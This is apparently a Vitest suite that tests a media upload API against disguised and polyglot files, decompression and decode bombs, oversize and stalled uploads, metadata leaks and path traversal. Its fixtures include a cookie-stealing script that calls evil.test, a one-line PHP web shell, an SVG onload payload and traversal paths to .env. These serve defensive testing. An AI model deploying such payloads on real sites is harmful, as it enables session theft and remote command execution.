/** Files that try to be something else, or too much. Each is refused in words that say why, and leaves nothing. */
import { crc32, deflateSync } from 'node:zlib'
import { request as httpRequest, type ClientRequest } from 'node:http'
import sharp from 'sharp'
import { beforeAll, expect, test, vi } from 'vitest'
import { testApp, type TestApp } from '../testing/app.ts'
import { menteeAccount } from '../testing/people.ts'
import { signedIn, testServer, type Browser } from '../testing/server.ts'
import { FileTooLargeError, MEDIA_MESSAGES } from './mediaErrors.ts'
import { UPLOAD_BYTES } from './upload.ts'

let t: TestApp
let url: string
let member: Browser
let memberId: number
let jpeg: Buffer
let png: Buffer
let webp: Buffer

beforeAll(async () => {
  // How often somebody sends is not the question here.
  t = await testApp({ config: { rateLimitFactor: 1_000 } })
  url = (await testServer(t.app)).url
  const account = await menteeAccount(t.db)
  memberId = account.id
  member = await signedIn(url, 'mentee', account.email)
  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: '#1d4fa0' } })
  jpeg = await picture.clone().jpeg().toBuffer()
  png = await picture.clone().png().toBuffer()
  webp = await picture.clone().webp().toBuffer()
})

const upload = (bytes: Buffer, type: string, who = member) =>
  who.send<{ id: string; url: string; message?: string }>('POST', '/api/media', undefined, {
    body: new Uint8Array(bytes),
    headers: { 'content-type': type },
  })

/** One chunk of a PNG. */
function chunk(name: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  const named = Buffer.concat([Buffer.from(name), data])
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** A PNG that says it is this large, with whatever stands in it. */
function pngOf(width: number, height: number, ...chunks: Buffer[]): Buffer {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0])
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), ...chunks, chunk('IEND', Buffer.alloc(0))])
}

/** A segment of a JPEG, put behind its first two bytes. */
function withSegment(bytes: Buffer, marker: number, text: string): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([bytes.subarray(0, 2), head, Buffer.from(text, 'latin1'), bytes.subarray(2)])
}

const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>'
const JAR = Buffer.concat([
  Buffer.from('PK\x03\x04', 'latin1'),
  Buffer.alloc(60),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])
const GIF = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')
const many = (text: string, times: number) => Buffer.from(text.repeat(times))

const CASES: [name: string, make: () => Buffer | Promise<Buffer>, type: string, what: keyof typeof MEDIA_MESSAGES][] = [
  ['a page that says it is a picture', () => Buffer.from(`<!doctype html>${SCRIPT}`), 'image/png', 'choose'],
  ['a PNG that says it is a JPEG', () => png, 'image/jpeg', 'otherKind'],
  ['a JPEG that says it is WebP', () => jpeg, 'image/webp', 'otherKind'],
  ['an SVG by its type', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/svg+xml', 'drawing'],
  ['an SVG under a false name', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', 'choose'],
  ['a GIF', () => GIF, 'image/gif', 'choose'],
  ['a GIF with an archive behind it', () => Buffer.concat([GIF, JAR]), 'image/jpeg', 'choose'],
  ['nothing at all', () => Buffer.alloc(0), 'image/png', 'choose'],
  ['a JPEG with a script behind it', () => Buffer.concat([jpeg, Buffer.from(SCRIPT)]), 'image/jpeg', 'carriesMore'],
  ['a JPEG with a script in its comment', () => withSegment(jpeg, 0xfe, SCRIPT), 'image/jpeg', 'carriesMore'],
  [
    'a JPEG whose first segment is a comment of JavaScript',
    () => Buffer.concat([withSegment(jpeg, 0xe0, '/*'), Buffer.from('*/=alert(1)/*')]),
    'image/jpeg',
    'carriesMore',
  ],
  ['a JPEG with an archive behind it', () => Buffer.concat([jpeg, JAR]), 'image/jpeg', 'carriesMore'],
  [
    'a JPEG with a second one and an archive behind it',
    () => Buffer.concat([jpeg, jpeg, JAR]),
    'image/jpeg',
    'carriesMore',
  ],
  [
    'a JPEG with the end of an archive in its comment',
    () => withSegment(jpeg, 0xfe, 'PK\x05\x06'),
    'image/jpeg',
    'carriesMore',
  ],
  [
    'a PNG with PHP behind it',
    () => Buffer.concat([png, Buffer.from('<?php system($_GET[0]);')]),
    'image/png',
    'carriesMore',
  ],
  [
    'a PNG with a page in its text',
    () => pngOf(1, 1, chunk('tEXt', Buffer.from(`Comment\0<html >`))),
    'image/png',
    'carriesMore',
  ],
  ['a WebP with an archive behind it', () => Buffer.concat([webp, JAR]), 'image/webp', 'carriesMore'],
  ...(
    [
      ['a RAR archive', 'Rar!\x1a\x07\0'],
      ['a 7z archive', '\0\x007z\xbc\xaf\x27\x1c'],
      ['a packed file', '\x1f\x8b\x08\0'],
      ['a program', '\x7fELF'],
      ['a Windows program', '\n\nMZ\x90'],
      ['a drawing', '<?xml version="1.0"?><svg onload="alert(1)">'],
      ['a document', '\0%PDF-1.7'],
    ] as const
  ).map(([what, tail]): (typeof CASES)[number] => [
    `a JPEG with ${what} behind it`,
    () => Buffer.concat([jpeg, Buffer.from(tail, 'latin1')]),
    'image/jpeg',
    'carriesMore',
  ]),
  ['a picture that is a document too', () => withSegment(jpeg, 0xfe, '%PDF-1.7'), 'image/jpeg', 'carriesMore'],
  ['half a JPEG', () => jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 'damaged'],
  ['half a PNG', () => png.subarray(0, png.length / 2), 'image/png', 'damaged'],
  ['half a WebP', () => webp.subarray(0, webp.length / 2), 'image/webp', 'damaged'],
  ['a head without a picture', () => png.subarray(0, 8), 'image/png', 'damaged'],
  ['a JPEG of a head and an end', () => Buffer.from([0xff, 0xd8, 0xff, 0xd9]), 'image/jpeg', 'damaged'],
  ['a PNG whose picture is missing', () => pngOf(40, 40), 'image/png', 'damaged'],
  ['a PNG whose picture is noise', () => pngOf(40, 40, chunk('IDAT', Buffer.alloc(200, 7))), 'image/png', 'damaged'],
  ['a PNG of no width', () => pngOf(0, 40, chunk('IDAT', deflateSync(Buffer.alloc(40)))), 'image/png', 'damaged'],
  [
    'a PNG that moves',
    () =>
      pngOf(
        1,
        1,
        chunk('acTL', Buffer.from([0, 0, 0x27, 0x10, 0, 0, 0, 0])),
        chunk('IDAT', deflateSync(Buffer.alloc(2))),
      ),
    'image/png',
    'animated',
  ],
  [
    'a WebP that moves',
    async () =>
      sharp([jpeg, await sharp(jpeg).negate().toBuffer()], { join: { animated: true } })
        .webp()
        .toBuffer(),
    'image/webp',
    'animated',
  ],
  ['a page that says it is a document', () => Buffer.from(`<!doctype html>${SCRIPT}`), 'application/pdf', 'document'],
  ['half a document', () => many('%PDF-1.7\n1 0 obj\n', 100), 'application/pdf', 'document'],
]

test.each(CASES)('%s is refused, and nothing is kept', async (_name, make, type, what) => {
  const before = await t.db.media.count()
  const { status, body } = await upload(await make(), type)
  expect([status, body.message]).toEqual([415, MEDIA_MESSAGES[what]])
  expect(await t.db.media.count()).toBe(before)
})

test.each(['text/html', 'application/octet-stream', 'multipart/form-data; boundary=x', 'application/zip'])(
  'a body of the type %s is not read',
  async (type) => {
    expect(await upload(jpeg, type)).toMatchObject({ status: 415, body: { message: MEDIA_MESSAGES.choose } })
  },
)

test.each(['image/jpg', 'image/pjpeg', 'IMAGE/JPG; charset=binary'])('%s is JPEG', async (type) => {
  expect((await upload(jpeg, type)).status).toBe(200)
  expect((await upload(png, type)).status).toBe(415)
})

test.each(['image/jpg', 'image/jpeg;charset=utf-8', 'image/pjpeg'])('a data URL of %s is JPEG', async (type) => {
  const profileImage = `data:${type};base64,${jpeg.toString('base64')}`
  expect((await member.send('PUT', `/api/mentees/${memberId}`, { profileImage })).status).toBe(200)
})

test('dimensions are looked at before anything is decoded', async () => {
  // Were it decoded, it would be found damaged.
  for (const [width, height] of [
    [30_000, 30_000],
    [2 ** 31 - 1, 1],
    [24_000_001, 1],
    [20_001, 1],
  ] as const) {
    const { status } = await upload(pngOf(width, height, chunk('IDAT', Buffer.alloc(9))), 'image/png')
    expect([width, status]).toEqual([
      width,
      width > 2 ** 24 ? expect.toSatisfy((code) => code === 422 || code === 415) : 422,
    ])
  }
})

/** A progressive JPEG of many passes, each of a few bytes and each over the whole picture. */
function jpegOfScans(width: number, height: number, scans: number): Buffer {
  const segment = (marker: number, data: Buffer) => {
    const head = Buffer.from([0xff, marker, 0, 0])
    head.writeUInt16BE(data.length + 2, 2)
    return Buffer.concat([head, data])
  }
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(height, 1)
  frame.writeUInt16BE(width, 3)
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  // One code of one bit each: no difference, and 16,384 blocks of nothing.
  const codes = (kind: number, symbol: number) => Buffer.from([kind, 1, ...Array<number>(15).fill(0), symbol])
  const first = segment(0xda, Buffer.from([1, 1, 0, 0, 0, 0]))
  const further = segment(0xda, Buffer.from([1, 1, 0, 1, 63, 0]))
  const runs = Math.ceil(blocks / 16_384)
  const pass = Buffer.concat([further, Buffer.alloc(Math.ceil((runs * 15) / 8))])
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc2, frame),
    segment(0xc4, codes(0x00, 0)),
    segment(0xc4, codes(0x10, 0xe0)),
    first,
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...Array<Buffer>(scans - 1).fill(pass),
    Buffer.from([0xff, 0xd9]),
  ])
}

test('a photo of a few passes is taken; one of hundreds, which is hours of work in megabytes, is not decoded', async () => {
  expect((await upload(jpegOfScans(640, 480, 12), 'image/jpeg')).status).toBe(200)
  const before = await t.db.media.count()
  expect(await upload(jpegOfScans(640, 480, 300), 'image/jpeg')).toMatchObject({
    status: 415,
    body: { message: MEDIA_MESSAGES.damaged },
  })
  expect(await t.db.media.count()).toBe(before)
})

test('text and colour profiles that unpack to hundreds of megabytes are not unpacked', async () => {
  const zeros = deflateSync(Buffer.alloc(300 * 2 ** 20), { level: 9 })
  const before = process.memoryUsage().rss
  for (const [name, data] of [
    ['zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zeros])],
    ['iCCP', Buffer.concat([Buffer.from('icc\0\0'), zeros])],
  ] as const) {
    const scan = deflateSync(Buffer.alloc(40 * 6))
    const { status } = await upload(pngOf(40, 40, chunk(name, data), chunk('IDAT', scan)), 'image/png')
    expect([200, 415]).toContain(status)
  }
  expect(process.memoryUsage().rss - before).toBeLessThan(200 * 2 ** 20)
})

test('what phones put behind a photo is left out, not refused', async () => {
  const moving = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypmp42'), Buffer.alloc(400, 3)])
  const notes = Buffer.concat([Buffer.alloc(20, 1), Buffer.from('SEFT')])
  const vivo = Buffer.from('vivo{"fmt":"1","depth":{"w":320}}\0\0vivo')
  const depth = Buffer.from(Array.from({ length: 40_000 }, (_, at) => (at * 31) % 251))
  const tails = [jpeg, Buffer.concat([Buffer.alloc(16), jpeg]), moving, notes, Buffer.alloc(64), vivo, depth]
  for (const tail of tails) {
    const { status, body } = await upload(Buffer.concat([jpeg, tail]), 'image/jpeg')
    expect([status, body.message]).toEqual([200, undefined])
  }
})

test('place, time and camera are gone, in every size', async () => {
  const photo = await sharp({ create: { width: 500, height: 450, channels: 3, background: '#285' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'CanaryCam', Artist: 'Canary Artist' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '18/1 31/1 1234/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '73/1 51/1 0/1',
      },
    })
    .toBuffer()
  expect((await sharp(photo).metadata()).exif?.includes('CanaryCam')).toBe(true)
  const { body } = await upload(
    withSegment(photo, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>CanaryPlace</x:xmpmeta>'),
    'image/jpeg',
  )
  for (const path of [body.url, ...[96, 200, 400].map((side) => `${body.url}/${side}`)]) {
    const bytes = Buffer.from(await (await fetch(url + path)).arrayBuffer())
    const { exif, xmp, icc, iptc, format } = await sharp(bytes).metadata()
    expect([path, format, exif, xmp, icc, iptc]).toEqual([path, 'webp', undefined, undefined, undefined, undefined])
    expect(bytes.includes('Canary')).toBe(false)
  }
})

test('five megabytes are taken, one byte more is not, announced or not', async () => {
  const full = Buffer.concat([jpeg, Buffer.alloc(UPLOAD_BYTES - jpeg.length)])
  expect((await upload(full, 'image/jpeg')).status).toBe(200)
  const over = Buffer.concat([full, Buffer.alloc(1)])
  const { message } = new FileTooLargeError()
  expect(await upload(over, 'image/jpeg')).toMatchObject({ status: 413, body: { message } })
  const pieces = new ReadableStream<Uint8Array>({
    start(controller) {
      for (let at = 0; at < over.length; at += 2 ** 20)
        controller.enqueue(new Uint8Array(over.subarray(at, at + 2 ** 20)))
      controller.close()
    },
  })
  const streamed = await member.send('POST', '/api/media', undefined, {
    body: pieces,
    headers: { 'content-type': 'image/jpeg' },
    duplex: 'half',
  } as RequestInit)
  expect(streamed).toMatchObject({ status: 413, body: { message } })
})

const PATIENT = { timeout: 10_000, interval: 100 }
/** An upload that is begun and not ended. */
function begin(length = jpeg.length): ClientRequest {
  const { hostname, port } = new URL(url)
  const cookie = [...member.cookies].map((pair) => pair.join('=')).join('; ')
  const headers = { 'content-type': 'image/jpeg', 'content-length': length, cookie }
  const sent = httpRequest({ hostname, port, path: '/api/media', method: 'POST', headers })
  sent.on('error', () => {})
  sent.write(jpeg.subarray(0, 40))
  return sent
}

const answerOf = (sent: ClientRequest) =>
  new Promise<number>((resolve) => sent.on('response', (response) => resolve(response.resume().statusCode ?? 0)))

test('a slow upload is taken; one that is broken off leaves nothing, and gives its place back', async () => {
  const rows = async () => [await t.db.media.count(), await t.db.mediaUpload.count(), await t.db.mediaSize.count()]
  const before = await rows()
  // Four are taken, before their bodies are read; the others are told to wait.
  const begun = Array.from({ length: 6 }, () => begin())
  const refused = new Set<ClientRequest>()
  for (const sent of begun) void answerOf(sent).then((status) => (status === 429 ? refused.add(sent) : refused))
  await vi.waitFor(() => expect(refused.size).toBe(2), PATIENT)
  const [slow, ...broken] = begun.toSorted((one, other) => Number(refused.has(one)) - Number(refused.has(other)))
  for (const sent of broken) sent.destroy()
  const last = jpeg.length - 10
  for (let at = 40; at < last; at += 100) slow!.write(jpeg.subarray(at, Math.min(at + 100, last)))
  expect(await rows()).toEqual(before)
  const answered = answerOf(slow!)
  slow!.end(jpeg.subarray(last))
  expect(await answered).toBe(200)
  // All four are free again.
  await vi.waitFor(async () => {
    const again = await Promise.all(Array.from({ length: 4 }, () => upload(png, 'image/png')))
    expect(again.map(({ status }) => status)).toEqual([200, 200, 200, 200])
  }, PATIENT)
})

test('uploads that break off before it is known whose they are take no place', async () => {
  const lookUps = async () => {
    const [row] = await t.db.$queryRaw<{ waiting: bigint }[]>`
      SELECT count(*) AS waiting FROM pg_locks WHERE NOT granted AND relation = 'sessions'::regclass`
    return Number(row?.waiting)
  }
  await t.db.$transaction(async (tx) => {
    await tx.$executeRaw`LOCK TABLE sessions IN ACCESS EXCLUSIVE MODE`
    const begun = Array.from({ length: 4 }, () => begin())
    await vi.waitFor(async () => expect(await lookUps()).toBe(4), PATIENT)
    for (const sent of begun) sent.socket!.resetAndDestroy()
    // Whatever the server answers now, it has seen them go.
    for (let asked = 0; asked < 3; asked += 1) expect((await fetch(`${url}/healthz`)).status).toBe(200)
  })
  await vi.waitFor(async () => {
    const again = await Promise.all(Array.from({ length: 4 }, () => upload(png, 'image/png')))
    expect(again.map(({ status }) => status)).toEqual([200, 200, 200, 200])
  }, PATIENT)
})

test("a stranger's picture in a REST body is not waited for", async () => {
  const { hostname, port } = new URL(url)
  for (const length of [{ 'content-length': 7_000_000 }, { 'transfer-encoding': 'chunked' }]) {
    const headers = { 'content-type': 'application/json', ...length }
    const sent = httpRequest({ hostname, port, path: '/api/mentors/1', method: 'PUT', headers })
    sent.on('error', () => {})
    sent.write('{"profileImage":"data:image/png;base64,')
    expect(await answerOf(sent)).toBe(401)
    sent.destroy()
  }
})

test('a path that leads elsewhere finds nothing', async () => {
  const { body } = await upload(jpeg, 'image/jpeg')
  for (const path of [
    `${body.url}/97`,
    `${body.url}/0`,
    `${body.url}/..%2f..%2fetc`,
    `/media/private/${body.id}`,
    '/media/..%2f..%2f.env',
    '/media/private/..%2f..%2f.env',
    `/media/${body.id.toUpperCase()}`,
    `/media/${body.id}%00`,
  ])
    expect([path, (await member.send('GET', path)).status]).toEqual([path, 404])
})
